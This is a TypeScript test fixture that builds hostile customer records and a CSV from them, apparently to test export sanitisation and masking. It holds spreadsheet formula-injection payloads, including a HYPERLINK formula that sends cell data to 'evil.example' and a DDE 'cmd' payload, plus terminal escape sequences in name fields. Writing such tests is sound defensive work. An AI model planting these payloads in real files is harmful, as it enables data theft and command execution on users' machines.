import type { Customer } from '@custcode/core';

/** Clear screen, an OSC 8 hyperlink ended by BEL, a C1 CSI and a right-to-left override. */
const CLEAR = '\x1b[2J';
const OSC = '\x1b]8;;https://osc.invalid/\x07click\x1b]8;;\x07';
export const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")';

/**
 * A consultant's CSV that an attacker got records into: cells a spreadsheet would run (issue 15 item 9) and
 * terminal escapes (item 10) in fields the restricted role sees unmasked, next to numbers and phone
 * numbers that must stay readable. `X001` lies outside the restricted role's code prefix.
 */
export const HOSTILE_RECORDS: Customer[] = [
  {
    source: 'hostile', erp: 'file', code: 'H001', name: `Evil${CLEAR} Ltd${OSC}`, shortName: '-2+3+cmd|x', contact: HYPERLINK, address: '西湖路1号',
    category: '@SUM(1+1)', region: `北京${CLEAR}`, phone: "+1+cmd|' /C calc'!A0", taxId: '91330199HOSTILE01K', status: 'active', raw: {},
  },
  {
    source: 'hostile', erp: 'file', code: 'H002', name: '平和文具有限公司', shortName: '+86 10 1234 5678', contact: '赵平和', address: '文三路2号',
    category: '-5', region: '上海', phone: '0571-86029999', taxId: '91330199HOSTILE02K', status: 'active', raw: {},
  },
  {
    source: 'hostile', erp: 'file', code: 'X001', name: `Outside${OSC} 有限公司`, shortName: '=1+1', contact: '钱外', address: '外面路3号',
    category: '+OUT', region: '广州', phone: '0571-86028888', taxId: '91330199HOSTILE03K', status: 'active', raw: {},
  },
];

/** The CSV columns of the hostile file source: the Customer field names themselves. */
export const HOSTILE_FIELDS = ['code', 'name', 'shortName', 'contact', 'address', 'category', 'region', 'phone', 'taxId'] as const;

/** The hostile records as the CSV file the `hostile` source reads. */
export function hostileCsv(): string {
  const quoted = (value: string) => `"${value.replaceAll('"', '""')}"`;
  const lines = HOSTILE_RECORDS.map((record) => HOSTILE_FIELDS.map((field) => quoted(String(record[field] ?? ''))).join(','));
  return [HOSTILE_FIELDS.join(','), ...lines].join('\n');
}
